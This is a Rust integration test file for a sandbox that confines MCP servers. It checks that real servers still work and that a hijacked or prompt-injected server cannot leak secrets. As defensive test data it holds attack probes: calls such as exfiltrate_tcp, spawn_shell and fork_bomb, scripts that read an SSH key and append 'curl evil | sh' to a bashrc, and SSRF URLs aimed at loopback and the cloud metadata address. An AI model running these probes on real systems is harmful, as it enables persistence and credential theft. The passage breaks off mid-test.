//! Real MCP servers (official npm and PyPI packages) under the strict profile plus grants, driven
//! by the official MCP Python SDK client: initialize, tools/list and a tool call must work, and
//! what a prompt-injected tool could reach must not.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests: a failed set-up panics with its location

use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use mcp_warden_tests::*;

struct Session {
    server: String,
    tools: Vec<String>,
    is_error: bool,
    text: String,
    /// The launcher's and the server's stderr (the broker reports refusals there).
    stderr: String,
}

fn node_dir() -> PathBuf {
    need(test_env().join("node"))
}

/// Runs the SDK client as `who` (as a desktop client would run) against `mcp-warden ARGS`.
fn session(who: Who, tool: &str, arguments: &str, warden_args: &[&str], env: &[(&str, &str)]) -> Session {
    let python = need(test_env().join("venv/bin/python"));
    let client = need(test_env().join("clients/mcp_session.py"));
    let mut c: Command = command_as(who, &python);
    c.arg(&client).args([tool, arguments, "--"]).arg(warden()).args(warden_args);
    c.env_clear().env("PATH", "/usr/local/bin:/usr/bin:/bin").env("LANG", "C.UTF-8");
    c.env("XDG_STATE_HOME", state_home(who));
    for (k, v) in env {
        c.env(k, v);
    }
    let o = run(c, None, Duration::from_secs(120));
    assert_eq!(o.code(), Some(0), "{who:?}: MCP session failed\n{}", o.describe());
    let v: serde_json::Value =
        serde_json::from_str(o.stdout.trim()).unwrap_or_else(|e| panic!("{e}\n{}", o.describe()));
    Session {
        server: v["server"].as_str().unwrap().to_string(),
        tools: v["tools"].as_array().unwrap().iter().map(|t| t.as_str().unwrap().to_string()).collect(),
        is_error: v["is_error"].as_bool().unwrap(),
        text: v["text"].as_str().unwrap().to_string(),
        stderr: o.stderr,
    }
}

per_identity!(node_everything_server_works_and_cannot_leak_the_environment, |who: Who| {
    let server = need(node_dir().join("node_modules/@modelcontextprotocol/server-everything/dist/index.js"));
    let node = node_dir();
    let args = [
        "run",
        "--profile",
        "strict",
        "--allow-read",
        node.to_str().unwrap(),
        "--",
        "node",
        server.to_str().unwrap(),
        "stdio",
    ];
    let s = session(who, "echo", r#"{"message": "hello from the sandbox"}"#, &args, &[]);
    assert_eq!(s.server, "mcp-servers/everything");
    assert!(s.tools.contains(&"echo".to_string()) && s.tools.contains(&"get-env".to_string()), "{:?}", s.tools);
    assert!(!s.is_error);
    assert_eq!(s.text, "Echo: hello from the sandbox");

    // The server's own get-env tool dumps its environment: a prompt-injected call gets
    // nothing the profile did not pass.
    let secrets = [("OPENAI_API_KEY", "sk-test-secret"), ("AWS_SECRET_ACCESS_KEY", "aws-test-secret")];
    let s = session(who, "get-env", "{}", &args, &secrets);
    assert!(!s.is_error, "{}", s.text);
    assert!(s.text.contains("\"PATH\""), "the tool works: {}", s.text);
    assert!(!s.text.contains("sk-test-secret") && !s.text.contains("aws-test-secret"), "secrets leaked: {}", s.text);
});

per_identity!(node_filesystem_server_works_on_its_directory_only, |who: Who| {
    let server = need(node_dir().join("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"));
    let node = node_dir();
    let s = Scratch::new(who);
    let notes = s.mkdir("notes", who);
    s.file("notes/todo.md", "- ship it\n", who);
    let args = [
        "run",
        "--profile",
        "strict",
        "--allow-read",
        node.to_str().unwrap(),
        "--allow-write",
        notes.to_str().unwrap(),
        "--",
        "node",
        server.to_str().unwrap(),
        notes.to_str().unwrap(),
    ];
    let path = notes.join("todo.md");
    let r = session(who, "read_text_file", &format!(r#"{{"path": "{}"}}"#, path.display()), &args, &[]);
    assert_eq!(r.server, "secure-filesystem-server");
    assert!(!r.is_error && r.text == "- ship it\n", "{}", r.text);
    let w = session(
        who,
        "write_file",
        &format!(r#"{{"path": "{}", "content": "written"}}"#, notes.join("new.md").display()),
        &args,
        &[],
    );
    assert!(!w.is_error, "{}", w.text);
    assert_eq!(std::fs::read_to_string(notes.join("new.md")).unwrap(), "written");
});

per_identity!(python_time_server_works, |who: Who| {
    let venv = need(test_env().join("venv"));
    let python = venv.join("bin/python");
    let args = [
        "run",
        "--profile",
        "strict",
        "--allow-read",
        venv.to_str().unwrap(),
        "--",
        python.to_str().unwrap(),
        "-m",
        "mcp_server_time",
    ];
    let s = session(who, "get_current_time", r#"{"timezone": "Europe/Paris"}"#, &args, &[]);
    assert_eq!(s.server, "mcp-time");
    assert_eq!(s.tools, vec!["convert_time".to_string(), "get_current_time".to_string()]);
    assert!(!s.is_error, "{}", s.text);
    assert!(s.text.contains("\"timezone\": \"Europe/Paris\""), "{}", s.text);
});

per_identity!(
    /// A deliberately malicious MCP server (tests/clients/malicious_server.py): every tool a
    /// prompt injection could call, under `strict` plus what a real server needs. Nothing gets out,
    /// and the server keeps answering.
    a_malicious_server_gets_nothing_out_and_keeps_answering,
    |who: Who| {
        let venv = need(test_env().join("venv"));
        let clients = need(test_env().join("clients"));
        let python = venv.join("bin/python");
        let s = Scratch::new(who);
        let secret = s.file("id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY----- s3cr3t-key-material", who);
        let bashrc = s.file("bashrc", "# rc\n", who);
        let drop = s.mkdir("drop", who);
        let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = tcp.local_addr().unwrap().port();
        let calls: Vec<(&str, serde_json::Value)> = vec![
            ("ping", serde_json::json!({})),
            ("read_secret", serde_json::json!({"path": secret})),
            ("exfiltrate_tcp", serde_json::json!({"host": "127.0.0.1", "port": port, "data": "stolen"})),
            ("exfiltrate_udp", serde_json::json!({"host": "127.0.0.1", "port": port, "data": "stolen"})),
            ("spawn_shell", serde_json::json!({"command": format!("cat {}", secret.display())})),
            ("drop_and_run", serde_json::json!({"directory": drop})),
            ("open_io_uring", serde_json::json!({})),
            ("make_user_namespace", serde_json::json!({})),
            ("fork_bomb", serde_json::json!({"limit": 200})),
            ("append_shell_rc", serde_json::json!({"path": bashrc})),
            ("ping", serde_json::json!({})),
        ];
        let steps: Vec<serde_json::Value> = calls.iter().map(|(t, a)| serde_json::json!(["call", t, a])).collect();
        let mut c = command_as(who, &python);
        c.arg(need(clients.join("mcp_steps.py")))
            .arg(serde_json::Value::from(steps).to_string())
            .arg("--")
            .arg(warden());
        c.args(["run", "--profile", "strict", "--max-processes", "32", "--allow-read"]).arg(&venv);
        c.arg("--allow-read").arg(&clients).arg("--allow-write").arg(&drop).arg("--");
        c.arg(&python).arg(clients.join("malicious_server.py"));
        c.env_clear().env("PATH", format!("{}:/usr/bin:/bin", venv.join("bin").display())).env("LANG", "C.UTF-8");
        c.env("XDG_STATE_HOME", state_home(who));
        let o = run(c, None, Duration::from_secs(120));
        assert_eq!(o.code(), Some(0), "{who:?}: session failed\n{}", o.describe());
        let v: serde_json::Value =
            serde_json::from_str(o.stdout.trim()).unwrap_or_else(|e| panic!("{e}\n{}", o.describe()));
        let results = v["steps"].as_array().unwrap();
        let text = |i: usize| results[i]["text"].as_str().unwrap().to_string();
        let expect = |i: usize, prefix: &str| {
            assert!(text(i).starts_with(prefix), "{who:?}: {} -> {:?}, expected {prefix}", calls[i].0, text(i));
        };
        expect(0, "pong");
        expect(1, "BLOCKED ENOENT"); // not in the hidden root (Landlock says EACCES without it)
        expect(2, "BLOCKED EPERM");
        expect(3, "BLOCKED EPERM");
        assert!(
            !text(4).contains("s3cr3t") && text(4).contains("No such file or directory"),
            "{who:?}: the shell read nothing: {}",
            text(4)
        );
        expect(5, "BLOCKED EACCES");
        expect(6, "BLOCKED EPERM");
        expect(7, "BLOCKED EPERM");
        assert!(text(8).starts_with("BLOCKED EAGAIN"), "{who:?}: fork bomb capped: {}", text(8));
        expect(9, "BLOCKED EROFS"); // no rc file there, and the hidden root is read-only (O_CREAT)
        expect(10, "pong");
        assert!(results.iter().all(|r| !r["text"].as_str().unwrap().contains("s3cr3t")), "the secret never left");
        assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# rc\n", "the shell rc is untouched");
        // control: the same tools work where granted
        let _ = tcp;
    }
);

per_identity!(
    /// The shipped profiles grant a server's own installation and its arguments by themselves: no
    /// hand-written path on the command line.
    shipped_profiles_run_their_servers_without_hand_written_paths,
    |who: Who| {
        let node = node_dir();
        let everything = need(node.join("node_modules/@modelcontextprotocol/server-everything/dist/index.js"));
        let filesystem = need(node.join("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"));
        let python = need(test_env().join("venv/bin/python"));
        let s = session(
            who,
            "echo",
            r#"{"message": "hi"}"#,
            &["run", "--profile", "everything", "--", "node", everything.to_str().unwrap(), "stdio"],
            &[],
        );
        assert_eq!((s.server.as_str(), s.text.as_str()), ("mcp-servers/everything", "Echo: hi"));

        let scratch = Scratch::new(who);
        let notes = scratch.mkdir("notes", who);
        scratch.file("notes/a.md", "from the notes\n", who);
        let outside = scratch.file("outside.md", "not granted\n", who);
        let args =
            ["run", "--profile", "filesystem", "--", "node", filesystem.to_str().unwrap(), notes.to_str().unwrap()];
        let r =
            session(who, "read_text_file", &format!(r#"{{"path": "{}"}}"#, notes.join("a.md").display()), &args, &[]);
        assert_eq!(r.text, "from the notes\n", "{}", r.text);
        let w = session(
            who,
            "write_file",
            &format!(r#"{{"path": "{}", "content": "new"}}"#, notes.join("b.md").display()),
            &args,
            &[],
        );
        assert!(!w.is_error, "{}", w.text);
        let o = session(who, "read_text_file", &format!(r#"{{"path": "{}"}}"#, outside.display()), &args, &[]);
        assert!(o.is_error && !o.text.contains("not granted"), "outside the directory argument: {}", o.text);

        let t = session(
            who,
            "get_current_time",
            r#"{"timezone": "UTC"}"#,
            &["run", "--profile", "time", "--", python.to_str().unwrap(), "-m", "mcp_server_time"],
            &[],
        );
        assert!(!t.is_error && t.text.contains("\"timezone\": \"UTC\""), "{}", t.text);
    }
);

per_identity!(
    /// The other shipped server profiles with their real servers, and one abuse each where the
    /// server's tools give one: git pointed at a repository it was not given, SQLite attaching a
    /// database file outside its directory.
    memory_sequential_thinking_git_and_sqlite_run_under_their_profiles,
    |who: Who| {
        let node = node_dir();
        let memory = need(node.join("node_modules/@modelcontextprotocol/server-memory/dist/index.js"));
        let thinking = need(node.join("node_modules/@modelcontextprotocol/server-sequential-thinking/dist/index.js"));
        let venv = need(test_env().join("venv"));
        let s = Scratch::new(who);

        s.mkdir("memory", who);
        let graph = s.file("memory/graph.jsonl", "", who);
        let env = [("MEMORY_FILE_PATH", graph.to_str().unwrap())];
        let args = ["run", "--profile", "memory", "--", "node", memory.to_str().unwrap()];
        let entities =
            r#"{"entities": [{"name": "mcp-warden", "entityType": "project", "observations": ["sandboxes servers"]}]}"#;
        let r = session(who, "create_entities", entities, &args, &env);
        assert!(!r.is_error, "{who:?}: {}", r.text);
        assert!(std::fs::read_to_string(&graph).unwrap().contains("sandboxes servers"), "written to MEMORY_FILE_PATH");

        let step =
            r#"{"thought": "sandbox first", "nextThoughtNeeded": false, "thoughtNumber": 1, "totalThoughts": 1}"#;
        let args = ["run", "--profile", "sequential-thinking", "--", "node", thinking.to_str().unwrap()];
        let t = session(who, "sequentialthinking", step, &args, &[]);
        assert!(!t.is_error, "{who:?}: {}", t.text);

        let repo = s.mkdir("repo", who);
        let other = s.mkdir("other", who);
        for dir in [&repo, &other] {
            let mut init = command_as(who, "/usr/bin/git");
            init.args(["init", "-q"]).arg(dir).env("HOME", dir);
            assert!(run(init, None, Duration::from_secs(30)).status.success());
        }
        let git = venv.join("bin/mcp-server-git");
        let args = ["run", "--profile", "git", "--", git.to_str().unwrap(), "--repository", repo.to_str().unwrap()];
        let st = session(who, "git_status", &format!(r#"{{"repo_path": "{}"}}"#, repo.display()), &args, &[]);
        assert!(!st.is_error && st.text.contains("branch"), "{who:?}: {}", st.text);
        let abuse = session(who, "git_status", &format!(r#"{{"repo_path": "{}"}}"#, other.display()), &args, &[]);
        assert!(abuse.is_error, "{who:?}: a repository it was not given: {}", abuse.text);

        let dbdir = s.mkdir("db", who);
        let db = s.file("db/app.db", "", who);
        let outside = s.file("outside.db", "", who);
        let sqlite = need(test_env().join("venv-sqlite/bin/mcp-server-sqlite"));
        let args = ["run", "--profile", "sqlite", "--", sqlite.to_str().unwrap(), "--db-path", db.to_str().unwrap()];
        let create = session(who, "create_table", r#"{"query": "CREATE TABLE t (x TEXT)"}"#, &args, &[]);
        assert!(!create.is_error, "{who:?}: {}", create.text);
        let attach = format!(r#"{{"query": "ATTACH DATABASE '{}' AS o"}}"#, outside.display());
        let abuse = session(who, "write_query", &attach, &args, &[]);
        assert!(
            abuse.text.to_lowercase().contains("unable to open"),
            "{who:?}: a database outside its directory: {}",
            abuse.text
        );
        let _ = dbdir;
    }
);

/// A process that is killed when the test ends, however it ends.
struct Background(std::process::Child);

impl Drop for Background {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Adds `addr`/32 to the loopback interface (idempotent): a stand-in for a public address, since
/// this machine has no internet. TEST-NET-2 (198.51.100.0/24) is documentation space, in no
/// profile's `deny` list.
fn test_address(addr: &str) {
    let shown = Command::new("/usr/sbin/ip").args(["-o", "addr", "show", "dev", "lo"]).output().unwrap();
    if !String::from_utf8_lossy(&shown.stdout).contains(&format!(" {addr}/")) {
        let st =
            Command::new("/usr/sbin/ip").args(["addr", "add", &format!("{addr}/32"), "dev", "lo"]).status().unwrap();
        assert!(st.success(), "ip addr add {addr}");
    }
}

/// Waits until `addr` accepts TCP connections.
fn wait_listening(addr: &str) {
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while std::net::TcpStream::connect(addr).is_err() {
        assert!(std::time::Instant::now() < deadline, "nothing listens on {addr}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A stand-in for a host elsewhere on the network: a network namespace of its own, reached over
/// a veth pair, holding `addr` (in 198.51.100.0/24; the host's end is 198.51.100.1). Unlike an
/// address on this host's loopback, it is no address of this host, which a profile that keeps the
/// server off this machine (`fetch`) refuses whatever its range. Removed when dropped.
struct RemoteHost(&'static str);

impl RemoteHost {
    fn new(addr: &str) -> RemoteHost {
        let ns = "mcpw-remote";
        let ip = |args: &[&str]| {
            let st = Command::new("/usr/sbin/ip").args(args).status().unwrap();
            assert!(st.success(), "ip {args:?}");
        };
        // one left by a killed run (none, usually: the error is not shown)
        let _ = Command::new("/usr/sbin/ip").args(["netns", "del", ns]).stderr(std::process::Stdio::null()).status();
        ip(&["netns", "add", ns]);
        ip(&["link", "add", "mcpw-near", "type", "veth", "peer", "name", "mcpw-far", "netns", ns]);
        ip(&["addr", "add", "198.51.100.1/24", "dev", "mcpw-near"]);
        ip(&["link", "set", "mcpw-near", "up"]);
        ip(&["-n", ns, "addr", "add", &format!("{addr}/24"), "dev", "mcpw-far"]);
        ip(&["-n", ns, "link", "set", "mcpw-far", "up"]);
        ip(&["-n", ns, "link", "set", "lo", "up"]);
        RemoteHost(ns)
    }

    /// `http.server` on `addr:port` there.
    fn http_server(&self, addr: &str, port: u16, dir: &std::path::Path) -> Background {
        let mut c = Command::new("/usr/sbin/ip");
        c.args(["netns", "exec", self.0, "/usr/bin/python3", "-m", "http.server", &port.to_string(), "--bind", addr]);
        spawn_http_server(c.arg("--directory").arg(dir), &format!("{addr}:{port}"))
    }
}

impl Drop for RemoteHost {
    fn drop(&mut self) {
        // the veth pair goes with the namespace
        let _ = Command::new("/usr/sbin/ip").args(["netns", "del", self.0]).status();
    }
}

fn http_server(addr: &str, port: u16, dir: &std::path::Path) -> Background {
    let mut c = Command::new("/usr/bin/python3");
    c.args(["-m", "http.server", &port.to_string(), "--bind", addr, "--directory"]).arg(dir);
    spawn_http_server(&mut c, &format!("{addr}:{port}"))
}

fn spawn_http_server(c: &mut Command, addr: &str) -> Background {
    let child = c.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null()).spawn().unwrap();
    wait_listening(addr);
    Background(child)
}

/// The official fetch server with its own private-address check switched off
/// (`--allow-private-ips`, as a server bug or a hostile fork would have it): the page on a public
/// address (another host, in a network namespace of its own) is fetched; the loopback service,
/// the same service on this host's own address, the cloud metadata address and the IPv4-mapped
/// form of loopback are refused by mcp-warden's network broker, not by the server.
#[test]
fn fetch_server_reaches_public_addresses_only() {
    if !is_root() {
        return skip("fetch_server_reaches_public_addresses_only", "needs root to add a test address and bind port 80");
    }
    let venv = need(test_env().join("venv"));
    let s = Scratch::new(Who::Root);
    let site = s.mkdir("site", Who::Root);
    std::fs::write(site.join("index.html"), "<html><head><title>T</title></head><body><h1>Warden test page</h1><p>The quick brown fox jumps over the lazy dog.</p></body></html>").unwrap();
    std::fs::write(site.join("secret.html"), "<html><body><p>internal admin token 7f3e</p></body></html>").unwrap();
    let remote = RemoteHost::new("198.51.100.9");
    let _public = remote.http_server("198.51.100.9", 80, &site);
    // an internal service on every address of this host, as a local admin page often is
    let internal = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let port = internal.local_addr().unwrap().port();
    drop(internal);
    let _internal = http_server("0.0.0.0", port, &site);

    let python = venv.join("bin/python");
    let args = [
        "run",
        "--profile",
        "fetch",
        "--",
        python.to_str().unwrap(),
        "-m",
        "mcp_server_fetch",
        "--ignore-robots-txt",
        "--allow-private-ips",
    ];
    for who in Who::all() {
        let ok = session(who, "fetch", r#"{"url": "http://198.51.100.9/index.html"}"#, &args, &[]);
        assert!(!ok.is_error && ok.text.contains("Warden test page"), "{who:?}: {}\n{}", ok.text, ok.stderr);
        assert_eq!(ok.tools, ["fetch"]);
        let attacks = [
            (format!("http://127.0.0.1:{port}/secret.html"), "127.0.0.1 is in the denied range 127.0.0.0/8"),
            (format!("http://[::ffff:127.0.0.1]:{port}/secret.html"), "127.0.0.1 is in the denied range 127.0.0.0/8"),
            (
                "http://169.254.169.254/latest/meta-data/".to_string(),
                "169.254.169.254 is in the denied range 169.254.0.0/16",
            ),
            (format!("http://localhost:{port}/secret.html"), "is in the denied range"),
            // this host's own address outside every denied range (the near end of the veth)
            (format!("http://198.51.100.1:{port}/secret.html"), "198.51.100.1 is an address of this host"),
        ];
        for (url, refusal) in attacks {
            let r = session(who, "fetch", &format!(r#"{{"url": "{url}"}}"#), &args, &[]);
            assert!(r.is_error && !r.text.contains("7f3e"), "{who:?}: {url} was fetched: {}", r.text);
            assert!(
                r.stderr.contains("mcp-warden: network: refused connect") && r.stderr.contains(refusal),
                "{who:?}: {url}: not refused by the broker:\n{}",
                r.stderr
            );
        }
    }
}

/// Adds a line to /etc/hosts for the test and removes it afterwards.
struct HostsEntry(String);

impl HostsEntry {
    fn add(line: &str) -> HostsEntry {
        let hosts = std::fs::read_to_string("/etc/hosts").unwrap();
        if !hosts.lines().any(|l| l == line) {
            let mut f = std::fs::OpenOptions::new().append(true).open("/etc/hosts").unwrap();
            use std::io::Write;
            writeln!(f, "{line}").unwrap();
        }
        HostsEntry(line.to_string())
    }
}

impl Drop for HostsEntry {
    fn drop(&mut self) {
        if let Ok(hosts) = std::fs::read_to_string("/etc/hosts") {
            let kept: String = hosts.lines().filter(|l| *l != self.0).map(|l| format!("{l}\n")).collect();
            let _ = std::fs::write("/etc/hosts", kept);
        }
    }
}

/// The official GitHub server under the `github` profile. This machine has no internet, so
/// api.github.com is a local HTTPS stand-in (tests/clients/fake_github.py) on a test address,
/// named in /etc/hosts and trusted through NODE_EXTRA_CA_CERTS: the real server code runs against
/// it. The token arrives by name from the client's environment. A process under the same profile
/// (what a hijacked server is) reaches api.github.com and nothing else.
#[test]
fn github_server_reaches_api_github_com_only() {
    if !is_root() {
        return skip(
            "github_server_reaches_api_github_com_only",
            "needs root to add a test address, /etc/hosts entry and port 443",
        );
    }
    let server = need(node_dir().join("node_modules/@modelcontextprotocol/server-github/dist/index.js"));
    let s = Scratch::new(Who::Root);
    let pki = s.mkdir("pki", Who::Root);
    let openssl = |args: &[&str]| {
        let o = Command::new("/usr/bin/openssl").args(args).current_dir(&pki).output().unwrap();
        assert!(o.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&o.stderr));
    };
    openssl(&[
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
        "-days",
        "2",
        "-subj",
        "/CN=mcp-warden test CA",
    ]);
    openssl(&[
        "req",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        "srv.key",
        "-out",
        "srv.csr",
        "-subj",
        "/CN=api.github.com",
    ]);
    std::fs::write(pki.join("ext"), "subjectAltName=DNS:api.github.com\n").unwrap();
    openssl(&[
        "x509",
        "-req",
        "-in",
        "srv.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "srv.pem",
        "-days",
        "2",
        "-extfile",
        "ext",
    ]);
    let ca = pki.join("ca.pem");
    chown_to(&ca, Who::User);

    test_address("198.51.100.8");
    test_address("198.51.100.7");
    let _hosts = HostsEntry::add("198.51.100.8 api.github.com # mcp-warden test");
    let fake = need(test_env().join("clients/fake_github.py"));
    let ready = s.join("ready");
    let child = Command::new("/usr/bin/python3")
        .arg(&fake)
        .args(["198.51.100.8", "srv.pem", "srv.key"])
        .arg(&ready)
        .current_dir(&pki)
        .spawn()
        .unwrap();
    let _fake = Background(child);
    wait_listening("198.51.100.8:443");
    let other = std::net::TcpListener::bind("198.51.100.7:443").unwrap();

    let probe = s.file("probe.js", r#"
const net = require('net');
const tryc = (host, port) => new Promise(r => {
  const s = net.connect({ host, port });
  s.on('connect', () => { console.log(`${host}:${port} connected`); s.destroy(); r(); });
  s.on('error', e => { console.log(`${host}:${port} ${e.code}`); r(); });
});
(async () => { for (const [h, p] of [['api.github.com', 443], ['198.51.100.7', 443], ['198.51.100.8', 80], ['127.0.0.1', 443]]) await tryc(h, p); })();
"#, Who::Root);
    for who in Who::all() {
        let env =
            [("GITHUB_PERSONAL_ACCESS_TOKEN", "ghp_wardentest123"), ("NODE_EXTRA_CA_CERTS", ca.to_str().unwrap())];
        let args = [
            "run",
            "--profile",
            "github",
            "--allow-read",
            ca.to_str().unwrap(),
            "--",
            "node",
            server.to_str().unwrap(),
        ];
        let r = session(who, "search_repositories", r#"{"query": "warden"}"#, &args, &env);
        assert!(!r.is_error && r.text.contains("octo/warden-test"), "{who:?}: {}\n{}", r.text, r.stderr);
        assert!(r.text.contains("auth=Bearer ghp_wardentest123"), "{who:?}: the token did not arrive: {}", r.text);
        assert!(r.tools.iter().any(|t| t == "create_issue"));

        let o = Sandbox::new(who)
            .profile("github")
            .grant("--allow-read", s.path())
            .exec(&["node".as_ref(), probe.as_os_str()]);
        assert!(o.stdout.contains("api.github.com:443 connected"), "{who:?}: control failed\n{}", o.describe());
        for denied in ["198.51.100.7:443 EACCES", "198.51.100.8:80 EACCES", "127.0.0.1:443 EACCES"] {
            assert!(o.stdout.contains(denied), "{who:?}: expected `{denied}`\n{}", o.describe());
        }
    }
    drop(other);
}

per_identity!(
    /// `npx -y PACKAGE` and `uvx PACKAGE`, installed once (by `cargo xtask setup`, into caches of the
    /// test environment), run hardened without npm, uv or the network: mcp-warden runs the installed
    /// copy directly. A package that was never installed is refused with the install-phase hint.
    npx_and_uvx_servers_run_from_their_installed_copies,
    |who: Who| {
        let env_dir = test_env();
        let npm_cache = need(env_dir.join("npm-cache"));
        let uv_cache = need(env_dir.join("uv-cache"));
        let caches = [("npm_config_cache", npm_cache.to_str().unwrap()), ("UV_CACHE_DIR", uv_cache.to_str().unwrap())];
        let step = r#"{"thought": "t", "nextThoughtNeeded": false, "thoughtNumber": 1, "totalThoughts": 1}"#;
        let args = [
            "run",
            "--profile",
            "sequential-thinking",
            "--",
            "npx",
            "-y",
            "@modelcontextprotocol/server-sequential-thinking@2026.8.31",
        ];
        let t = session(who, "sequentialthinking", step, &args, &caches);
        assert!(!t.is_error, "{who:?}: {}\n{}", t.text, t.stderr);

        let args = ["run", "--profile", "time", "--", "uvx", "mcp-server-time==2026.10.19"];
        let t = session(who, "get_current_time", r#"{"timezone": "Asia/Tokyo"}"#, &args, &caches);
        assert!(!t.is_error && t.text.contains("Asia/Tokyo"), "{who:?}: {}\n{}", t.text, t.stderr);
        let mut c = warden_as(
            Who::current(),
            &[
                "run".as_ref(),
                "--profile".as_ref(),
                "memory".as_ref(),
                "--".as_ref(),
                "npx".as_ref(),
                "-y".as_ref(),
                "@modelcontextprotocol/server-memory@1.0.0".as_ref(),
            ],
        );
        c.env("npm_config_cache", &npm_cache);
        let o = run(c, None, Duration::from_secs(30));
        assert_eq!(o.code(), Some(125), "{}", o.describe());
        assert!(
            o.stderr.contains("is not installed in the npx cache")
                && o.stderr.contains("hint: install the package once"),
            "{}",
            o.describe()
        );
    }
);

/// (profile, runtime, extra server arguments that carry the profile's grants, environment)
type Case<'a> = (&'a str, &'a str, Vec<&'a str>, Vec<(&'a str, &'a str)>);

per_identity!(
    /// What a hijacked server could do under each shipped profile: the same attacks (read a secret
    /// the user can read, append to a shell rc file, reach a local service) from inside the runtime
    /// each profile is for, started exactly as its server would be. Every one fails; the control,
    /// reading the profile's own grant, succeeds.
    every_shipped_profile_contains_a_hijacked_server,
    |who: Who| {
        let node_attack = r#"
const fs = require('fs'), net = require('net');
const [secret, rc, port, own] = process.argv.slice(2);
const t = (name, f) => { try { f(); console.log(name + ' ALLOWED'); } catch (e) { console.log(name + ' ' + e.code); } };
t('own', () => fs.readFileSync(own));
t('secret', () => fs.readFileSync(secret));
t('rc', () => fs.appendFileSync(rc, 'curl evil | sh\n'));
const s = net.connect({ host: '127.0.0.1', port: +port });
s.on('connect', () => { console.log('net ALLOWED'); process.exit(0); });
s.on('error', e => { console.log('net ' + e.code); process.exit(0); });
"#;
        let py_attack = r#"
import socket, sys
secret, rc, port, own = sys.argv[1:5]
def t(name, f):
    try:
        f(); print(name, "ALLOWED")
    except OSError as e:
        print(name, e.errno)
t("own", lambda: open(own, "rb").read())
t("secret", lambda: open(secret).read())
t("rc", lambda: open(rc, "a").write("curl evil | sh\n"))
t("net", lambda: socket.create_connection(("127.0.0.1", int(port)), timeout=5))
"#;
        let python = need(test_env().join("venv/bin/python"));
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port().to_string();
        let s = Scratch::new(who);
        let code = s.mkdir("code", who);
        let node_js = s.file("code/attack.js", node_attack, who);
        let py = s.file("code/attack.py", py_attack, who);
        let secret = s.file("id_ed25519", "PRIVATE KEY\n", who);
        let rc = s.file("bashrc", "# rc\n", who);
        let data = s.mkdir("data", who);
        let own = s.file("data/own.txt", "mine\n", who);
        let memory = s.file("data/graph.jsonl", "", who);
        let db = s.file("data/app.db", "", who);
        let mut init = command_as(who, "/usr/bin/git");
        init.args(["init", "-q"]).arg(&data).env("HOME", &data);
        assert!(run(init, None, Duration::from_secs(30)).status.success());
        let targets = [secret.to_str().unwrap(), rc.to_str().unwrap(), &port, own.to_str().unwrap()];
        // (profile, interpreter, extra server arguments that carry the profile's grants, env)
        let cases: Vec<Case> = vec![
            ("everything", "node", vec![], vec![]),
            ("sequential-thinking", "node", vec![], vec![]),
            ("memory", "node", vec![], vec![("MEMORY_FILE_PATH", memory.to_str().unwrap())]),
            ("filesystem", "node", vec![data.to_str().unwrap()], vec![]),
            ("github", "node", vec![], vec![]),
            ("time", "python", vec![], vec![]),
            ("git", "python", vec!["--repository", data.to_str().unwrap()], vec![]),
            ("sqlite", "python", vec!["--db-path", db.to_str().unwrap()], vec![]),
            ("fetch", "python", vec![], vec![]),
        ];
        for (profile, runtime, extra, env) in cases {
            let (program, script) =
                if runtime == "node" { ("node", &node_js) } else { (python.to_str().unwrap(), &py) };
            let mut sb = Sandbox::new(who).profile(profile).grant("--allow-read", &code);
            if ["everything", "sequential-thinking", "github", "time", "fetch"].contains(&profile) {
                sb = sb.grant("--allow-read", &data);
            }
            for (k, v) in &env {
                sb = sb.env(k, v);
            }
            let mut cmd: Vec<&std::ffi::OsStr> = vec![program.as_ref(), script.as_os_str()];
            cmd.extend(targets.iter().map(|t| std::ffi::OsStr::new(*t)));
            cmd.extend(extra.iter().map(std::ffi::OsStr::new));
            let o = sb.exec(&cmd);
            let lines: Vec<&str> = o.stdout.lines().collect();
            assert_eq!(lines.first().copied(), Some("own ALLOWED"), "{who:?} {profile}: control\n{}", o.describe());
            assert_eq!(lines.len(), 4, "{who:?} {profile}\n{}", o.describe());
            for line in &lines[1..] {
                assert!(!line.ends_with("ALLOWED"), "{who:?} {profile}: {line}\n{}", o.describe());
            }
        }
        drop(listener);
    }
);

/// An unknown server (here a Python MCP server run as `python server.py`, with an API key in the
/// entry's `env`) gets its runtime's profile from `wrap`, which grants its interpreter, virtualenv
/// and script, and passes the key by name: the wrapped entry starts and answers through the
/// official client (bare `strict`, as before, cannot even read the script).
#[test]
fn an_unknown_server_wrapped_gets_its_runtime_and_its_env_keys() {
    let python = need(test_env().join("venv/bin/python"));
    let script = need(test_env().join("clients/leaky_server.py"));
    let who = Who::current();
    let s = Scratch::new(who);
    let config = s.join("mcp.json");
    let entry = serde_json::json!({"mcpServers": {"acme": {
        "command": python, "args": [script], "env": {"ACME_TOKEN": "t0ken"}
    }}});
    std::fs::write(&config, entry.to_string()).unwrap();
    chown_to(&config, who);
    let o =
        run(warden_as(who, &["wrap".as_ref(), config.as_os_str(), "--write".as_ref()]), None, Duration::from_secs(30));
    assert!(o.stderr.contains("acme: wrapped with profile `python`"), "{}", o.describe());
    let v: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&config).unwrap()).unwrap();
    let args: Vec<String> =
        v["mcpServers"]["acme"]["args"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().to_string()).collect();
    assert_eq!(args[..6], ["run", "--profile", "python", "--pass-env", "ACME_TOKEN", "--"]);
    let session_args: Vec<&str> = args.iter().map(String::as_str).collect();
    let t = session(who, "echo", r#"{"message": "hello"}"#, &session_args, &[("ACME_TOKEN", "t0ken")]);
